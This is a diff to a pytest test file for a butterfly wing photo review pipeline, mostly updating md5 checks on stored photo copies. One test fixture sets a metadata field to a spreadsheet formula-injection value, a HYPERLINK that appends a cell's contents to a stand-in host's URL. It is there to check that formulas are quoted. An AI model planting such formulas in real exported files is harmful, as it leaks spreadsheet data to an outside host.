@@ -10,6 +10,7 @@ import pandas as pd
 import pytest
 from conftest import TAXA
 
+from hybridwing.data.fetch import md5_of
 from hybridwing.data.reviews import apply_reviews, read_exclusions
 from hybridwing.data.tables import TableError, normalise_table, read_csv_table
 from hybridwing.review.batch import review_batch
@@ -208,9 +209,9 @@ def test_the_batch_to_label_is_a_training_table_once_filled(tmp_path, taxa):
         }
     )
     photos = []
-    for name in "abc":
-        photo = tmp_path / f"{name}.jpg"
-        photo.write_bytes(b"x")
+    for name in "abc":  # as fetch stores a converted copy: other bytes than the original the metadata's md5 is of
+        photo = tmp_path / f"{name}.rgb.png"
+        photo.write_bytes(name.encode())
         photos.append(str(photo))
     metadata = pd.DataFrame(
         {
@@ -225,6 +226,7 @@ def test_the_batch_to_label_is_a_training_table_once_filled(tmp_path, taxa):
     batch = review_batch(triage, metadata, taxa, count=10)
     assert batch["filename"].tolist() == ["a.jpg", "b.jpg", "c.jpg"] and batch["band"].tolist() == ["C", "C", "B"]
     assert batch["file_url"].str.startswith("file://").all()
+    assert batch["md5"].tolist() == [md5_of(name.encode()) for name in "abc"], "of the stored file, not the original"
     path = tmp_path / "batch.csv"
     batch.to_csv(path, index=False)
     table = normalise_table(read_csv_table(path.read_bytes(), str(path)), "extra_labels", str(path), taxa)
@@ -321,6 +323,8 @@ def test_review_never_overwrites_a_curators_file_and_quotes_formulas(tmp_path, m
     metadata = metadata_rows(["a", "b"], "dev", ["cyrbia", "lativitta"])
     metadata.loc[0, "camid"] = '=HYPERLINK("http://x/?"&B2,"open")'
     metadata.assign(path=["a.jpg", "b.jpg"]).to_csv(results / "data" / "metadata.csv", index=False)
+    for name in ("a.jpg", "b.jpg"):
+        (tmp_path / name).write_bytes(name.encode())  # the stored photographs, relative to the run's folder
     arguments = ["review", "dev", "--results", str(results), "--taxa", str(TAXA)]
 
     curated = tmp_path / "labels.csv"
